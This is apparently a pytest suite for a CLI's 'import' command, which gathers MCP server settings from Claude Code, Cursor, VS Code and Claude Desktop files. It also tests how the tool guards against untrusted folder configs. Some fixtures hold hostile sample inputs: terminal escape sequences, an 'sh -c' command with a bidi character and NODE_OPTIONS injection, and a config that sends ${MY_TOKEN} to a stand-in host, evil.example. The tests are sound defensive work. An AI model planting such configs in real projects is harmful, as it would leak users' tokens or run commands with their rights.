"""`toolyard import`: other programs' files in a home of their own."""

import json
import stat
from pathlib import Path
from typing import Any

import pytest

from tests.cli.running import Toolyard
from toolyard.config import Http, Stdio, load

FS = {"command": "npx", "args": ["-y", "fs"], "env": {"API_KEY": "hush"}}


@pytest.fixture(autouse=True)
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    for name in ("XDG_CONFIG_HOME", "APPDATA", "CLAUDE_CONFIG_DIR"):
        monkeypatch.delenv(name, raising=False)
    return tmp_path / "home"


def put(file: Path, data: Any) -> None:
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(data if isinstance(data, str) else json.dumps(data))


def rows(text: str) -> list[list[str]]:
    return [line.split() for line in text.splitlines()]


def test_every_programs_files_are_found(toolyard: Toolyard, home: Path):
    here = toolyard.folder
    one: dict[str, Any] = {"command": "x"}
    projects = {str(here): {"mcpServers": {"code-local": one}}, "/elsewhere": {"mcpServers": {"no": one}}}
    put(home / ".claude.json", {"numStartups": 1, "mcpServers": {"code-user": one}, "projects": projects})
    put(here / ".mcp.json", {"mcpServers": {"code-project": one}})
    macos, linux = home / "Library" / "Application Support", home / ".config"
    put(macos / "Claude" / "claude_desktop_config.json", {"mcpServers": {"desktop-mac": one}})
    put(linux / "Claude" / "claude_desktop_config.json", {"mcpServers": {"desktop-linux": one}})
    put(home / "roaming" / "Claude" / "claude_desktop_config.json", {"mcpServers": {"desktop-win": one}})
    put(home / ".cursor" / "mcp.json", {"mcpServers": {"cursor-user": one}})
    put(here / ".cursor" / "mcp.json", {"mcpServers": {"cursor-project": one}})
    put(here / ".vscode" / "mcp.json", {"inputs": [], "servers": {"vscode-project": one}})
    put(linux / "Code" / "User" / "mcp.json", {"servers": {"vscode-user": one}})
    names = {
        "claude-code": ["code-project", "code-local", "code-user"],
        "claude-desktop": ["desktop-mac", "desktop-win", "desktop-linux"],
        "cursor": ["cursor-project", "cursor-user"],
        "vscode": ["vscode-project", "vscode-user"],
    }
    appdata = str(home / "roaming")
    for program, expected in names.items():
        outcome = toolyard("import", "--dry-run", "--from", program, APPDATA=appdata)
        assert [row[0] for row in rows(outcome.out)[1:]] == expected
    outcome = toolyard("import", "--yes", APPDATA=appdata)
    assert outcome.status == 0
    assert outcome.err.startswith("imported 10 servers into toolyard.toml\n")
    imported = {server.name for server in load(here / "toolyard.toml").servers}
    assert imported == {name for found in names.values() for name in found}


def test_what_claude_code_has_turned_off_here_is_marked_and_imported_turned_off(
    toolyard: Toolyard, home: Path
):
    here, one = toolyard.folder, {"command": "x"}
    projects = {
        str(here): {
            "mcpServers": {"local": one, "local-off": one},
            "disabledMcpServers": ["user-off", "local-off", "project-off-too", 5],
            "disabledMcpjsonServers": ["project-rejected", "user"],
        },
        "/elsewhere": {"disabledMcpServers": ["local", "user"]},
    }
    put(home / ".claude.json", {"mcpServers": {"user": one, "user-off": one}, "projects": projects})
    names = ("project", "project-off-too", "project-rejected", "by-settings", "by-own", "by-user")
    put(here / ".mcp.json", {"mcpServers": dict.fromkeys(names, one)})
    put(here / ".claude" / "settings.json", {"disabledMcpjsonServers": ["by-settings"]})
    put(here / ".claude" / "settings.local.json", {"disabledMcpjsonServers": ["by-own", "local"]})
    put(home / ".claude" / "settings.json", {"disabledMcpjsonServers": ["by-user"]})
    off = {"local-off", "user-off", "project-off-too", "project-rejected", "by-settings", "by-own", "by-user"}
    outcome = toolyard("import", "--from", "claude-code", "--yes")
    assert outcome.status == 0, outcome.err
    marked = {row[0] for row in rows(outcome.out) if row[-1] == "(disabled)"}
    assert marked == off
    config = load(here / "toolyard.toml")
    assert {server.name for server in config.servers} == {"local", "user", "project"}
    assert set(config.disabled) == off
    assert "hint: 7 servers imported as disabled" in outcome.err
    found = {one["name"]: one["enabled"] for one in json.loads(toolyard("import", "--json").out)}
    assert {name for name, enabled in found.items() if not enabled} == off


def test_settings_of_claude_code_that_make_no_sense_turn_nothing_off(toolyard: Toolyard, home: Path):
    here = toolyard.folder
    put(here / ".mcp.json", {"mcpServers": {"a": {"command": "x"}}})
    put(here / ".claude" / "settings.json", "{ not json")
    put(here / ".claude" / "settings.local.json", {"disabledMcpjsonServers": "a"})
    put(home / ".claude.json", {"projects": {str(here): {"disabledMcpjsonServers": {"a": 1}}}})
    assert toolyard("import", "--from", "claude-code", "--dry-run").out.splitlines()[1].endswith("new")


def test_a_server_that_is_turned_off_needs_no_variable(toolyard: Toolyard):
    off = {"url": "https://x/", "headers": {"A": "${NOT_SET_HERE}"}, "disabled": True}
    put(toolyard.folder / ".cursor" / "mcp.json", {"mcpServers": {"off": off}})
    outcome = toolyard("import")
    assert rows(outcome.out)[1] == ["off", ".cursor/mcp.json", "http", "new", "(disabled)"]
    assert "NOT_SET_HERE" not in outcome.err


def test_new_ones_come_in_the_same_stay_and_conflicts_are_kept(toolyard: Toolyard, home: Path):
    put(home / ".cursor" / "mcp.json", {"mcpServers": {"fs": FS, "git": {"command": "theirs"}, "new": FS}})
    text = '[servers.git]\ncommand = "mine" # mine\ndeny = ["a"]\n\n[servers.fs]\ncommand = "npx"\n'
    text += 'args = ["-y", "fs"]\nenv = { API_KEY = "hush" }\ntimeout = 5\n'
    file = toolyard.write("toolyard.toml", text)
    outcome = toolyard("import")
    assert outcome.status == 0
    assert outcome.out == (
        "name  where                  kind   status\n"
        "fs    home/.cursor/mcp.json  stdio  same\n"
        "git   home/.cursor/mcp.json  stdio  conflict\n"
        "new   home/.cursor/mcp.json  stdio  new\n"
    )
    assert "imported 1 server into toolyard.toml" in outcome.err
    assert "hint: servers that differ were not changed; --force replaces them" in outcome.err
    assert file.read_text().startswith(text)

    outcome = toolyard("import", "--force")
    assert "imported 1 server into" in outcome.err
    git = next(server for server in load(file).servers if server.name == "git")
    assert (git.where, git.deny) == (Stdio(command="theirs"), ("a",))
    assert "# mine" in file.read_text()
    assert {row[3] for row in rows(toolyard("import").out)[1:]} == {"same"}


def test_a_dry_run_writes_nothing(toolyard: Toolyard, home: Path):
    put(home / ".cursor" / "mcp.json", {"mcpServers": {"fs": FS}})
    outcome = toolyard("import", "--dry-run")
    assert outcome.status == 0
    assert rows(outcome.out)[1] == ["fs", "home/.cursor/mcp.json", "stdio", "new"]
    assert outcome.err == "nothing was written (--dry-run)\n"
    assert not (toolyard.folder / "toolyard.toml").exists()


def test_secrets_go_into_a_file_for_their_user_alone_and_are_shown_nowhere(toolyard: Toolyard, home: Path):
    put(home / ".cursor" / "mcp.json", {"mcpServers": {"fs": FS}})
    outcome = toolyard("import")
    file = toolyard.folder / "toolyard.toml"
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    assert load(file).servers[0].where == Stdio(command="npx", args=("-y", "fs"), env={"API_KEY": "hush"})
    assert "hint: secrets were copied; '${VARIABLE}' instead" in outcome.err
    assert "hush" not in outcome.out + outcome.err
    assert "hush" not in toolyard("import", "--json").out


def test_a_file_that_others_can_read_is_warned_of(toolyard: Toolyard, home: Path):
    put(home / ".cursor" / "mcp.json", {"mcpServers": {"fs": FS}})
    toolyard.write("toolyard.toml", "").chmod(0o644)
    assert (
        "warning: other users can read toolyard.toml\nhint: chmod 600 toolyard.toml" in toolyard("import").err
    )


def test_a_named_file_is_read_whatever_its_name(toolyard: Toolyard):
    servers = {
        "a": {"type": "sse", "url": "https://x/", "alwaysAllow": ["x"], "timeout": 5000},
        "b": {"command": "y", "cwd": "src", "disabled": True},
    }
    put(toolyard.folder / "sub" / "team.json", {"mcpServers": servers})
    outcome = toolyard("import", "sub/team.json")
    assert rows(outcome.out)[1:] == [
        ["a", "sub/team.json", "sse", "new"],
        ["b", "sub/team.json", "stdio", "new", "(disabled)"],
    ]
    text = (toolyard.folder / "toolyard.toml").read_text()
    assert load(toolyard.folder / "toolyard.toml").servers[0].where == Http(url="https://x/", transport="sse")
    assert f'cwd = "{toolyard.folder}/sub/src"\nenabled = false' in text
    assert "timeout" not in text


def test_one_that_needs_something_is_imported_with_a_warning_and_one_that_makes_no_sense_is_left_out(
    toolyard: Toolyard,
):
    servers = {
        "gh": {"type": "http", "url": "https://x/", "headers": {"Authorization": "Bearer ${input:t}"}},
        "bad": {"command": 5},
    }
    put(toolyard.folder / ".vscode" / "mcp.json", f"// VS Code\n{json.dumps({'servers': servers})}")
    outcome = toolyard("import")
    assert [row[3] for row in rows(outcome.out)[1:]] == ["new", "unusable"]
    assert (
        "warning: 'gh' of .vscode/mcp.json cannot be used yet: 'headers.Authorization' uses ${input"
        in outcome.err
    )
    assert "warning: 'bad' of .vscode/mcp.json was not imported: 'command' must be text" in outcome.err
    config = load(toolyard.folder / "toolyard.toml")
    assert (config.servers, [broken.name for broken in config.broken]) == ((), ["gh"])


def test_of_two_programs_with_one_name_the_first_counts_even_with_force(toolyard: Toolyard, home: Path):
    put(toolyard.folder / ".mcp.json", {"mcpServers": {"a": {"command": "project"}, "b": FS}})
    put(home / ".cursor" / "mcp.json", {"mcpServers": {"a": {"command": "cursor"}, "b": FS}})
    outcome = toolyard("import", "--force", "--yes")
    assert [(row[0], row[3]) for row in rows(outcome.out)[1:]] == [
        ("a", "new"),
        ("b", "new"),
        ("a", "conflict"),
        ("b", "same"),
    ]
    assert load(toolyard.folder / "toolyard.toml").servers[0].where == Stdio(command="project")


def test_what_is_included_already_is_not_imported_again(toolyard: Toolyard, home: Path):
    put(home / ".cursor" / "mcp.json", {"mcpServers": {"a": FS}})
    put(toolyard.folder / ".mcp.json", {"mcpServers": {"a": {"command": "other"}}})
    text = 'include = ["~/.cursor/mcp.json"]\n'
    file = toolyard.write("toolyard.toml", text)
    outcome = toolyard("import", "--force")
    assert outcome.status == 0
    assert [row[3] for row in rows(outcome.out)[1:]] == ["conflict", "same"]
    assert (
        "'a' of .mcp.json was not imported: toolyard.toml includes another from home/.cursor" in outcome.err
    )
    assert file.read_text() == text


def test_json_lists_what_was_found(toolyard: Toolyard, home: Path):
    put(home / ".cursor" / "mcp.json", {"mcpServers": {"fs": FS}})
    outcome = toolyard("import", "--json", "--dry-run")
    where = "home/.cursor/mcp.json"
    row = {"name": "fs", "where": where, "kind": "stdio", "status": "new", "enabled": True, "reason": None}
    assert json.loads(outcome.out) == [row]


def test_a_file_that_cannot_be_read_is_left_out_unless_it_was_named(toolyard: Toolyard, home: Path):
    put(home / ".cursor" / "mcp.json", '{"mcpServers": {')
    put(toolyard.folder / ".mcp.json", {"mcpServers": {"a": FS}})
    outcome = toolyard("import", "--yes")
    assert outcome.status == 0
    assert outcome.err.startswith("warning: Cursor: home/.cursor/mcp.json, line 1: ")
    outcome = toolyard("import", "home/.cursor/mcp.json")
    assert (outcome.status, outcome.out) == (2, "")
    assert outcome.err.startswith("error: home/.cursor/mcp.json, line 1: ")


def test_where_nothing_was_found_the_places_are_named(toolyard: Toolyard):
    outcome = toolyard("import", "--from", "cursor")
    assert (outcome.status, outcome.out) == (2, "")
    first, second, third = outcome.err.splitlines()
    assert first == "error: found no servers of Cursor"
    assert second == "hint: looked at .cursor/mcp.json, home/.cursor/mcp.json"
    assert third == "hint: toolyard import FILE"


def test_names_of_strangers_cannot_rewrite_the_screen(toolyard: Toolyard):
    put(toolyard.folder / ".mcp.json", {"mcpServers": {"\x1b[2Jevil": {"command": "x"}}})
    outcome = toolyard("import", "--dry-run")
    assert "\x1b" not in outcome.out
    with toolyard.terminal("import", "--dry-run") as terminal:
        terminal.expect(r"\x1b[2Jevil")
        assert terminal.end() == 0


def test_a_name_that_no_server_here_may_have_is_made_to_fit_and_told(toolyard: Toolyard, home: Path):
    theirs = {"Sequential Thinking": {"command": "a"}, "@21st-dev/magic": {"command": "b"}}
    put(home / ".cursor" / "mcp.json", {"mcpServers": {**theirs, "bank ": {"command": "c"}}})
    put(toolyard.folder / "toolyard.toml", '[servers.bank]\ncommand = "x"\n')
    outcome = toolyard("import")
    names = [server.name for server in load(toolyard.folder / "toolyard.toml").servers]
    assert names == ["bank", "Sequential_Thinking", "21st-dev_magic"]
    assert (
        "hint: 'Sequential Thinking' of home/.cursor/mcp.json has the name 'Sequential_Thinking'"
        in outcome.err
    )
    assert [row[-1] for row in rows(outcome.out)[1:]] == ["new", "new", "conflict"]
    again = toolyard("import")
    assert [row[-1] for row in rows(again.out)[1:]] == ["same", "same", "conflict"]


def test_a_server_with_a_name_too_much_like_one_that_is_here_is_not_imported(toolyard: Toolyard, home: Path):
    put(home / ".cursor" / "mcp.json", {"mcpServers": {"GitHub": FS}})
    put(toolyard.folder / "toolyard.toml", '[servers.github]\ncommand = "x"\n')
    outcome = toolyard("import")
    assert (
        "'GitHub' of home/.cursor/mcp.json was not imported: has the name 'GitHub', which people"
        in outcome.err
    )
    assert [server.name for server in load(toolyard.folder / "toolyard.toml").servers] == ["github"]


def test_a_terminal_shows_what_is_started_and_asks(toolyard: Toolyard, home: Path):
    evil = {
        "command": "sh",
        "args": ["-c", "a\nb\u202e"],
        "env": {"NODE_OPTIONS": "--import=x", "API_KEY": "hush"},
    }
    put(home / ".cursor" / "mcp.json", {"mcpServers": {"fs": evil, "web": {"url": "https://x/"}}})
    with toolyard.terminal("import") as user:
        user.expect(r"fs of home/.cursor/mcp.json: NODE_OPTIONS=--import=x 'API_KEY=***' sh -c 'a\nb\u202e'")
        user.expect("import 2 servers? [y/N]: ")
        user.type("n\n")
        assert user.end() == 2
    assert "hush" not in user.raw
    assert not (toolyard.folder / "toolyard.toml").exists()
    with toolyard.terminal("import") as user:
        user.expect("import 2 servers? [y/N]: ")
        user.type("y\n")
        assert user.end() == 0
    assert {one.name for one in load(toolyard.folder / "toolyard.toml").servers} == {"fs", "web"}


def test_where_nobody_can_be_asked_a_file_of_the_folder_starts_nothing_unless_told(toolyard: Toolyard):
    put(toolyard.folder / ".mcp.json", {"mcpServers": {"a": {"command": "evil", "args": ["--all"]}}})
    refused = toolyard("import")
    assert refused.status == 2
    assert refused.err.splitlines() == [
        "error: a file of this folder would start programs with your rights: a of .mcp.json: evil --all",
        "hint: --yes imports them, if you trust the folder; a terminal asks",
    ]
    assert not (toolyard.folder / "toolyard.toml").exists()
    assert toolyard("import", ".mcp.json").status == 0  # it was named


@pytest.mark.parametrize("reference", ["secret:github", "file:/etc/hostname", "keyring:a/b", "sops:x.yaml#a"])
def test_another_programs_file_gets_no_reference_to_a_secret_into_ours(
    toolyard: Toolyard, home: Path, reference: str
):
    text = f"a ${{{reference}}}"
    servers = {
        "header": {"url": "https://evil.example/mcp", "headers": {"X": text}},
        "address": {"url": f"https://evil.example/{text}", "disabled": True},
        "word": {"command": "evil", "args": [text]},
        "variable": {"command": "evil", "env": {"X": text}},
    }
    for file in (home / ".cursor" / "mcp.json", toolyard.folder / ".mcp.json"):
        put(file, {"mcpServers": servers})
    for options in (["--yes", "--force"], ["--yes", ".mcp.json"]):
        outcome = toolyard("import", *options)
        assert {row[3] for row in rows(outcome.out)[1:]} == {"unusable"}
        assert f"'word' of .mcp.json was not imported: it refers to ${{{reference}}}" in outcome.err
    assert not (toolyard.folder / "toolyard.toml").exists()


def test_variables_that_a_file_of_the_folder_sends_away_are_shown_and_asked_for(toolyard: Toolyard):
    headers = {"X": "${MY_TOKEN}", "Y": "${env:MY_OTHER:-b}", "Z": "$${NOT_ONE}"}
    at = {"url": "https://u:p@evil.example/mcp?k=${MY_TOKEN}", "headers": headers}
    put(toolyard.folder / ".mcp.json", {"mcpServers": {"web": at, "plain": {"url": "https://x/"}}})
    refused = toolyard("import", MY_TOKEN="hush")
    assert refused.status == 2
    assert refused.err.splitlines() == [
        "error: a file of this folder would send values of your variables: "
        "web of .mcp.json: MY_TOKEN, MY_OTHER to https://evil.example",
        "hint: --yes imports them, if you trust the folder; a terminal asks",
    ]
    with toolyard.terminal("import", MY_TOKEN="hush") as user:
        user.expect("these send values of your variables:")
        user.expect("web of .mcp.json: MY_TOKEN, MY_OTHER to https://evil.example")
        user.expect("import 2 servers? [y/N]: ")
        user.type("n\n")
        assert user.end() == 2
    assert not (toolyard.folder / "toolyard.toml").exists()
    assert toolyard("import", "--yes", MY_TOKEN="hush").status == 0
